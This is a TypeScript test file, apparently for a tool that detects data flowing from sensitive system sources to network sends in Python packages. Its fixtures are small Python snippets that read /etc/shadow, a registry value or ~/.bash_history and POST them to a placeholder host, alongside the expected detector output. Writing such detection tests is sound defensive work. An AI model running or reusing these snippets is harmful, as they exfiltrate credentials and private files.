import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the flows. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'a test that makes the distribution send',
    {
      'own/__init__.py': `import requests
def tell(host, what):
    requests.post(host, data=what)`,
      'tests/test_x.py': `from own import tell
tell('http://a.invalid', open('/etc/shadow').read())`,
    },
    [
      'own/__init__.py:3 development flow system-file open /etc/shadow > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'winreg',
    `import winreg, requests
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software')
v, _ = winreg.QueryValueEx(k, 'x')
requests.post('http://a.invalid', data=v)`,
    [
      'own.py:4 import flow system-file winreg.QueryValueEx «winreg.OpenKey» > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'history',
    `import os, requests
requests.post('http://a.invalid', data=open(os.path.expanduser('~/.bash_history')).read())`,
    ['own.py:2 import flow system-file open ~/.bash_history > network-send requests.post http://a.invalid'],
  ],
];

describe('what the system keeps and leaves by the network', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow'), expected));
  }
});
